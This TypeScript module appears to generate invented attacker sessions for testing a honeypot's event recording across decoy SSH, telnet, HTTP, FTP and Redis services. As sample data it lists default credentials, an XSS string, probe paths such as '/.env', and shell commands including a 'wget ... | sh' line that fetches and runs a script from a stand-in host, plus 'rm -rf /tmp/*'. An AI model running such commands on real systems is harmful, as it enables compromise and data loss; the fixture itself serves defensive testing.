/**
 * Invented attackers, for tests and for working on the page. Addresses are documentation ranges; what is left behind is inert.
 */
import { createHash } from 'node:crypto'
import { seeded } from '#codec/testing.ts'
import { type Event, type Identity, recorder } from '#events/event.ts'
import { uuid7 } from '#events/uuid7.ts'
import type { Place } from '#store/store.ts'

export type Row = { event: Event; place: Place }

const places: Place[] = [
  { country: 'JP', city: 'Osaka', lat: 34.69, lon: 135.5, asn: 64496, network: 'Example Net West' },
  { country: 'US', city: 'Ashburn', lat: 39.04, lon: -77.49, asn: 64497, network: 'Example Cloud' },
  { country: 'DE', city: 'Frankfurt am Main', lat: 50.11, lon: 8.68, asn: 64498, network: 'Example Hosting GmbH' },
  { country: 'BR', city: 'São Paulo', lat: -23.55, lon: -46.63, asn: 64499, network: 'Exemplo Telecom' },
  { country: 'CN', city: 'Shenzhen', lat: 22.54, lon: 114.06, asn: 64500, network: 'Example Backbone' },
  { country: 'NL', lat: 52.38, lon: 4.9, asn: 64501, network: 'Example Transit B.V.' },
  { country: 'ZA', city: 'Cape Town', lat: -33.93, lon: 18.42, asn: 64502, network: 'Example Fibre' },
  {},
]
const users = ['root', 'admin', 'test', 'ubuntu', 'oracle', 'postgres', 'pi', '管理者', 'a'.repeat(120)]
const passwords = [
  '123456',
  'password',
  'admin',
  'root',
  'P@ssw0rd',
  'raspberry',
  '"><script>alert(1)</script>',
  '\\xff\\xfe',
]
const commands = [
  'uname -a',
  'cat /proc/cpuinfo',
  'wget http://198.51.100.7/x.sh -O- | sh',
  'rm -rf /tmp/*',
  'crontab -l',
]
const agents = ['Mozilla/5.0 zgrab/0.x', 'curl/8.5.0', 'python-requests/2.31.0']
/** The standard inert test file, as a worm would upload it. */
export const inertSample = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')
const hash = (name: string) => createHash(name).update(inertSample).digest('hex')
export const sampleHashes = { sha256: hash('sha256'), sha1: hash('sha1'), md5: hash('md5') }

/** Services with the share of sessions each gets. */
export const decoys = [
  { service: 'ssh', title: 'OpenSSH 9.2', replaces: ['cowrie'], port: 22, weight: 40 },
  { service: 'telnet', title: 'telnetd', replaces: ['cowrie'], port: 23, weight: 20 },
  { service: 'http', title: 'nginx 1.22', replaces: ['snare', 'tanner', 'h0neytr4p'], port: 80, weight: 25 },
  { service: 'ftp', title: 'vsFTPd 3.0.3', replaces: ['dionaea', 'heralding'], port: 21, weight: 10 },
  { service: 'redis', title: 'Redis 7 left open to the world', replaces: ['redishoneypot'], port: 6379, weight: 5 },
] as const

/** Whole sessions of invented attackers, one call each, oldest event first. */
export function createAttackers(seed: number, sensor = 'skep-test') {
  const random = seeded(seed)
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() ** 2 * list.length)]!
  const total = decoys.reduce((sum, decoy) => sum + decoy.weight, 0)

  function choose() {
    let at = random() * total
    for (const decoy of decoys) {
      at -= decoy.weight
      if (at < 0) return decoy
    }
    return decoys[0]
  }
  return (startedAt: number): Row[] => {
    const decoy = choose()
    const number = Math.floor(random() ** 3 * 600)
    const ip =
      number % 9 === 8
        ? `2001:db8:${(number % 64).toString(16)}::${number.toString(16)}`
        : `${['192.0.2', '198.51.100', '203.0.113'][number % 3]}.${number % 255}`
    const place = places[number % places.length]!
    const rows: Row[] = []
    let now = startedAt
    const who: Identity = {
      session: uuid7(startedAt),
      service: decoy.service,
      source: { ip, port: 1024 + Math.floor(random() * 60_000) },
      destination: { ip: '203.0.113.250', port: decoy.port },
      transport: 'tcp',
    }
    const record = recorder(who, { sensor, sink: event => void rows.push({ event, place }), now: () => now })
    const pass = () => {
      now += Math.floor(50 + random() * 900)
    }
    record.connectionOpened({})
    if (decoy.service === 'http') {
      pass()
      const path = pick(['/', '/.env', '/wp-login.php', '/cgi-bin/luci', '/login'])
      const userAgent = pick(agents)
      record.request({
        method: 'GET',
        url: { original: path, path },
        version: '1.1',
        headers: [
          ['Host', '203.0.113.250'],
          ['User-Agent', userAgent],
        ],
        userAgent,
        bodyBytes: 0,
        status: path === '/' ? 200 : 404,
        responseBytes: 153,
      })
      if (path === '/cgi-bin/luci')
        record.exploit({ id: 'CVE-2023-1389', name: 'TP-Link Archer AX21 command injection', evidence: path })
    } else {
      if (decoy.service === 'ssh')
        record.sshHello({
          version: pick(['SSH-2.0-Go', 'SSH-2.0-libssh_0.9.6']),
          hassh: pick(['92674389fa1e47a27ddd8d9b63ecd42b', '51cba57125523ce4b9db67714a90bf6e']),
          algorithms: {},
        })
      const outcome = random() < 0.3 ? 'success' : 'failure'
      if (decoy.service !== 'redis')
        for (let n = 1 + Math.floor(random() * 4); n > 0; n--) {
          pass()
          record.login({
            method: 'password',
            user: pick(users),
            password: pick(passwords),
            outcome: n === 1 ? outcome : 'failure',
          })
        }
      if (outcome === 'success' || decoy.service === 'redis')
        for (let n = Math.floor(random() * 5); n > 0; n--) {
          pass()
          const line = pick(commands)
          record.command({ line })
          if (line.startsWith('wget')) record.fileDownload({ url: 'http://198.51.100.7/x.sh', tool: 'wget' })
        }
      if (decoy.service === 'ftp' && outcome === 'success')
        record.fileUpload({
          path: '/upload/x.sh',
          sample: { ...sampleHashes, size: inertSample.length, kept: inertSample.length },
        })
    }
    pass()
    record.connectionClosed({
      reason: pick(['eof', 'idle', 'reset']),
      milliseconds: now - startedAt,
      received: 900,
      sent: 1200,
    })
    return rows
  }
}
